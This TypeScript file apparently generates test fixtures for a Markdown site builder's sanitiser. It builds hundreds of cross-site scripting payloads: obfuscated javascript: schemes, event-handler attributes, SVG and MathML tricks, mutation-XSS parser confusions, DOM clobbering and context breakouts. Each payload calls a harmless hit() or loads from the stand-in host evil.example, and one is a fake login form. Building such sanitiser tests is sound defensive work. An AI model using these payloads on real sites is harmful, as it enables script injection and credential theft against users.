/** What a hostile author, or a careless one, may write: each calls `hit` with its number, or asks `evil.example` for something. */

export type Payload = {
  /** Markdown of its own part of a page. */
  markdown: string;
  /** Front matter of a page of its own. */
  frontMatter?: string;
};

type Make = (call: string, host: string) => string;

/** Schemes that run scripts, as filters miss them. */
const schemes: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `java&#13;script:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `&#32;&#14;javascript:${call}`,
  (call) => `javascript&#9;:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript://evil.example/%0A${call}//`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (call) => `data:text/html;base64,${Buffer.from(`<script>top.${call}</script>`).toString("base64")}`,
  (call) => `blob:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `&Tab;&Tab;JAVASCRIPT&colon;&Tab;${call}`,
];

/** Elements that follow an address, or load it. */
const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href='${url}' target="_blank">link</a>`,
  (url) => `<svg width="20" height="20"><a href="${url}"><text y="10">link</text></a></svg>`,
  (url) => `<svg width="20" height="20"><a xlink:href="${url}"><text y="10">link</text></a></svg>`,
  (url) => `<math href="${url}"><mi>link</mi></math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><button>Go</button></form>`,
  (url) => `<button formaction="${url}">Go</button>`,
];

/** Attributes that run scripts, on elements that are allowed. */
const handlers: Make[] = [
  ..."onload onerror onclick onfocus onmouseover onanimationstart onbeforetoggle onpointerenter ontoggle onscroll oncontentvisibilityautostatechange onpaste"
    .split(" ")
    .flatMap((name): Make[] => [
      (call) => `<img src="data:," ${name}="${call}" alt="x">`,
      (call) => `<div tabindex="0" ${name.toUpperCase()}='${call}'>x</div>`,
      (call) =>
        `<svg ${name}="${call}" width="9" height="9"><circle r="4" ${name}=${call.replaceAll("'", "")} /></svg>`,
      (call) => `<details open ${name}\n=\n"${call}"><summary>x</summary></details>`,
    ]),
  (call) => `<p style="animation:x 1s" onanimationend="${call}">x</p>`,
  (call) => `<a autofocus tabindex=1 onfocus=${call}>x</a>`,
  (call) => `<img/src="data:,"/onerror=${call}>`,
  (call) => `<img src="data:,"\tonerror="${call}">`,
  (call) => `<img src="data:," onerror&#61;"${call}" alt="x">`,
  (call) => `<b data-x="" onclick="${call}">x</b>`,
  (call) => `<div dangerouslySetInnerHTML="{__html:'<img src=x onerror=${call}>'}">x</div>`,
  (call) => `<p ref="${call}" key="x" children="x" innerHTML="<img src=x onerror=${call}>">x</p>`,
];

/** Elements that run, load or navigate by themselves. */
const elements: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script type="module">${call}</script>`,
  (_, host) => `<script src="${host}/x.js"></script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" /></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) => `<style>@import "${call}";</style>`,
  (_, host) => `<style>* { background: url(${host}/bg) }</style>`,
  (_, host) => `<link rel="stylesheet" href="${host}/x.css">`,
  (_, host) => `<link rel="prefetch" href="${host}/x">`,
  (_, host) => `<base href="${host}/">`,
  (_, host) => `<meta http-equiv="refresh" content="0;url=${host}/">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (_, host) => `<iframe src="${host}/"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (_, host) => `<object data="${host}/x.svg" type="image/svg+xml"></object>`,
  (_, host) => `<embed src="${host}/x.swf">`,
  (_, host) => `<video src="${host}/x.mp4" poster="${host}/x.png" autoplay></video>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call, host) => `<audio src="${host}/x.mp3" onerror="${call}" autoplay></audio>`,
  (_, host) => `<picture><source srcset="${host}/x.png"><img src="data:," alt="x"></picture>`,
  (_, host) => `<img src="${host}/x.png" alt="x">`,
  (_, host) => `<img src="data:," srcset="${host}/x.png 2x" alt="x">`,
  (_, host) => `<img src="${host.replace("https:", "")}/x.png" alt="x">`,
  (_, host) => `<img src="HTTPS:${host.slice(6)}/x.png" alt="x">`,
  (_, host) => `<img src="https:&#9;${host.slice(6)}/x.png" alt="x">`,
  (_, host) => `<img src="https:\\\\${host.slice(8)}\\x.png" alt="x">`,
  (_, host) => `<input type="image" src="${host}/x.png" alt="x">`,
  (_, host) => `<body background="${host}/x.png">`,
  (_, host) => `<table background="${host}/x.png"><tr><td background="${host}/y.png">x</td></tr></table>`,
  (_, host) => `<p style="background:url(${host}/x.png)">x</p>`,
  (_, host) => `<a href="/" ping="${host}/ping">home</a>`,
  (_, host) =>
    `<form action="${host}/"><input type="password" autofocus name="password"><button>Log in</button></form>`,
  (_, host) => `<isindex action="${host}/">`,
  (_, host) => `<bgsound src="${host}/x.wav">`,
  (_, host) => `<frameset><frame src="${host}/"></frameset>`,
  (_, host) => `<portal src="${host}/"></portal>`,
  (_, host) => `<applet archive="${host}/x.jar"></applet>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<keygen autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}"><option>x</option></select>`,
  (call) => `<textarea autofocus onfocus="${call}">x</textarea>`,
  (call) => `<dialog open onclose="${call}"><form method="dialog"><button>x</button></form></dialog>`,
  (call) =>
    `<button popovertarget="p" onclick="${call}">x</button><div popover id="p" onbeforetoggle="${call}">x</div>`,
];

/** Drawings and formulas. */
const drawings: Make[] = [
  ..."fill stroke mask clip-path filter marker-start marker-mid marker-end cursor"
    .split(" ")
    .flatMap((name): Make[] => [
      (_, host) => `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(${host}/x.svg#a)"/></svg>`,
      (_, host) => `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="URL('${host}/x.svg#a')"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="u\\72l(${host}/x.svg#a)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(/**/${host}/x.svg#a)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="url(#b) url(&quot;${host}/x.svg#a&quot;)"/></svg>`,
      (_, host) =>
        `<svg width="20" height="20"><path d="M0 0h9v9z" ${name}="image-set(&quot;${host}/x.png&quot; 1x)"/></svg>`,
    ]),
  (_, host) => `<svg><image href="${host}/x.png" width="9" height="9"/></svg>`,
  (_, host) => `<svg><image xlink:href="${host}/x.png" width="9" height="9"/></svg>`,
  (_, host) => `<svg><use href="${host}/x.svg#a"/></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  (call) => `<svg><animate attributeName="href" values="javascript:${call}" begin="0s"/></svg>`,
  (call) => `<svg><a><animate attributeName="href" to="javascript:${call}"/><text y="9">x</text></a></svg>`,
  (call) => `<svg><set attributeName="onclick" to="${call}"/></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
  (call) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  (_, host) =>
    `<svg><filter id="f"><feImage href="${host}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<math><maction actiontype="statusline#javascript:${call}">x</maction></math>`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><img src="data:," onerror="${call}"></annotation-xml></math>`,
  (_, host) => `<math><mglyph src="${host}/x.png"></mglyph></math>`,
];

/** What one parser reads as text, and the next one as an element. */
const mutations: Make[] = [
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<noscript><style></noscript><img src=x onerror=${call}></style>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<textarea></textarea><img src=x onerror=${call}></textarea>`,
  (call) => `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  (call) => `<svg><![CDATA[<image xlink:href="]]><img src=xx:x onerror=${call}//"></svg>`,
  (call) =>
    `<svg><desc><svg><image><a><desc title='--><img src=1 onerror=${call}>'></desc></a></image></svg></desc></svg>`,
  (call) => `<!--><img src="data:," onerror=${call}>-->`,
  (call) => `<!--!><img src=x onerror=${call}>--!>`,
  (call) => `<![CDATA[<!--]]><img src=x onerror=${call}><!-- -->`,
  (call) => `<?x ><img src=x onerror=${call}> ?>`,
  (call) => `<!x '><img src=x onerror=${call}>'>`,
  (call) => `<p><marquee><p><marquee onstart=${call}>x`,
  (call) => `<table><tr><td><a><table><a href="javascript:${call}">x</a></table></a></td></tr></table>`,
  (call) => `<table><img src=x onerror=${call}><tr><td>x</td></tr></table>`,
  (call) => `<a href="#"><table><a href="javascript:${call}">x</a></table></a>`,
  (call) => `<b><p><i><b><p><i onclick=${call}>x</b></p></i></p>`,
  (call) => `<select><template><img src=x onerror=${call}></template></select>`,
  (call) => `<select><svg><style><img src=x onerror=${call}></style></svg></select>`,
  (call) => `<div><math><mi><div><svg><title><a onclick=${call}>x</a></title></svg></div></mi></math></div>`,
  (call) => `<svg><input>text<img src=x onerror=${call}></svg>`,
  (call) => `<p>a<object><p>b<img src=x onerror=${call}></object>c</p>`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<body onload=${call}><html onclick=${call}>`,
  (call) => `<tr><td onclick=${call}>x</td></tr>`,
  (call) => `<li><li onclick=${call}>x`,
  (call) => `<pre>\n\n<img src=x onerror=${call}></pre>`,
  (call) =>
    `<svg><svg><b><noscript>&lt;/noscript&gt;&lt;img src=x onerror=${call}&gt;</noscript></b></svg></svg>`,
  (call) => `<div id="a"><style>/*</style><!-- --><img src=x onerror=${call}>*/</div>`,
  (call) => `<ruby><rtc><rt><rp><img src=x onerror=${call}></rp></rt></rtc></ruby>`,
];

/** Names that the reader, or the browser, looks up. */
const names =
  "twsite-data root main-content contents-title nearest-routes footnote-label location document __hit __REACT_DEVTOOLS_GLOBAL_HOOK__ trustedTypes localStorage navigation body forms cookie getElementById querySelector dataset children attributes".split(
    " ",
  );
const takeover = (call: string) =>
  JSON.stringify({
    manifest: { base: "/" },
    page: { kind: "doc", content: `<img src=x onerror=${call}>` },
  }).replaceAll("<", "&lt;");
const clobbering: Make[] = [
  ...names.flatMap((name): Make[] => [
    (call) => `<div id="${name}" hidden>${takeover(call)}</div>`,
    () => `<a name="${name}" id="${name}" href="#x">x</a>`,
    () => `<img name="${name}" src="data:," alt="x">`,
  ]),
  (call) => `<pre id="twsite-data">${takeover(call)}</pre>`,
  (call) => `<script id="twsite-data" type="application/json">${takeover(call)}</script>`,
  (call) => `<div id="root" data-base="javascript:${call}" data-homes="x">x</div>`,
  (_, host) =>
    `<div data-home="/" lang="xx"><a data-action="copy-page" data-href="${host}/x" href="#x">x</a></div>`,
  () =>
    `<div class="tabs" data-group="os"><div role="tablist"><span role="tab">x</span></div><div data-tab="x" data-shown>x</div></div>`,
  () => `<p data-action="wrap" data-controls data-js data-theme="dark">x</p>`,
  () => `<tw-tabs group="os"><tw-tab label="x">y</tw-tab></tw-tabs>`,
  (call) => `<tw-component use="0" name="Counter" props='{"x":"${call}"}'>x</tw-component>`,
];

/** Texts that end what they are in. */
const breakouts: Make[] = [
  (call) => `</script><script>${call}</script>`,
  (call) => `<!--<script>${call}</script>-->`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><svg onload=${call}>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `\u2028${call}//\u2029`,
  (call) => `{{constructor.constructor('${call.replaceAll("'", "")}')()}}`,
  (call) => `\${${call}}`,
];

/** Where a text can be. `"` and line endings are the place's own. */
const places: ((text: string) => Payload)[] = [
  (text) => ({ markdown: text }),
  (text) => ({ markdown: `[link](<https://evil.example/${angle(text)}> "title")` }),
  (text) => ({ markdown: `[link](https://evil.example "${text.replaceAll('"', '\\"')}")` }),
  (text) => ({ markdown: `![${brackets(text)}](data:,x)` }),
  (text) => ({ markdown: `[${brackets(text)}](https://evil.example)` }),
  (text) => ({ markdown: `### ${text}` }),
  (text) => ({ markdown: `| a | b |\n| - | - |\n| ${bars(text)} | \`${bars(text)}\` |` }),
  (text) => ({ markdown: `\`\`\`js title="${text.replaceAll('"', "'")}"\n${text}\n\`\`\`` }),
  (text) => ({ markdown: `:::note[${brackets(text)}]\n\n${text}\n\n:::` }),
  (text) => ({
    markdown: `:::details[${brackets(text)}]{id="${text.replaceAll('"', "&quot;")}"}\n\n${text}\n\n:::`,
  }),
  (text) => ({
    markdown: `::::tabs{group="${text.replaceAll('"', "&quot;")}"}\n:::tab[${brackets(text)}]\n\n${text}\n\n:::\n::::`,
  }),
  (text) => ({ markdown: `> ${text}\n>\n> - ${text}` }),
  (text) => ({
    markdown: "",
    frontMatter: `title: ${JSON.stringify(text)}\ndescription: ${JSON.stringify(text)}`,
  }),
  (text) => ({
    markdown: "",
    frontMatter: `title: T\nsidebar_label: ${JSON.stringify(text)}\nkeywords: [${JSON.stringify(text)}]`,
  }),
];

const angle = (text: string) => text.replaceAll(/[<>\\]/g, "\\$&").replaceAll(/\s/g, " ");
const brackets = (text: string) => text.replaceAll(/[[\]]/g, "\\$&");
const bars = (text: string) => text.replaceAll("|", "\\|");

/** All of them, each with the number that it calls. The order is fixed. */
export function payloads(): Payload[] {
  const makes: ((call: string, host: string) => Payload)[] = [
    ...schemes.flatMap((scheme) =>
      carriers.map((carry) => (call: string, host: string) => ({ markdown: carry(scheme(call, host)) })),
    ),
    // The others are addresses of the site to Markdown, which lead to no page: an error.
    ...schemes
      .filter((scheme) => !/&#(0|1;|32;)/.test(scheme("", "")))
      .map((scheme) => (call: string, host: string) => ({
        markdown: `[link](<${scheme(call, host)}>) <${scheme(call, host)}> [ref]\n\n[ref]: ${scheme(call, host)}`,
      })),
    ...[...handlers, ...elements, ...drawings, ...mutations, ...clobbering].map(
      (make) => (call: string, host: string) => ({ markdown: make(call, host) }),
    ),
    ...[...elements, ...mutations].map((make) => (call: string, host: string) => ({
      markdown: `Text ${make(call, host).replaceAll("\n", " ")} text`,
    })),
    ...breakouts.flatMap((make) =>
      places.map((place) => (call: string, host: string) => place(make(call, host))),
    ),
  ];
  return makes.map((make, index) => make(`hit(${index})`, `https://evil.example`));
}
